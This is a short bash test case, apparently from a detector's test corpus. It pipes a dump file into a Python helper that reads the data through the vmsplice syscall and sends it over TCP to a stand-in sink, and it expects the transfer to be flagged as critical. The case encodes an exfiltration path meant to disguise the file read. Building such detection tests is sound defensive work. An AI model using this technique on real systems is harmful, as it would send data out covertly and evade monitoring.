#!/bin/bash
# B-vmsplice-in: cat into a pipe, from which a program takes by vmsplice.
# flow: vmsplice at the reading end moves a pipe's bytes into memory: a read by another name; then send.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
cat >take.py <<'END'
import ctypes, socket, sys


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


vmsplice = ctypes.CDLL(None, use_errno=True).vmsplice
vmsplice.restype = ctypes.c_ssize_t
vmsplice.argtypes = [ctypes.c_int, ctypes.POINTER(Part), ctypes.c_size_t, ctypes.c_uint]
memory = ctypes.create_string_buffer(65536)
sink = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while (got := vmsplice(0, ctypes.byref(Part(ctypes.addressof(memory), 65536)), 1, 0)) > 0:
    sink.sendall(memoryview(memory)[:got])
sys.exit(got != 0)
END
cat "$D" | python3 take.py "$SINK" "$PORT" || fail "vmsplice"
sunk
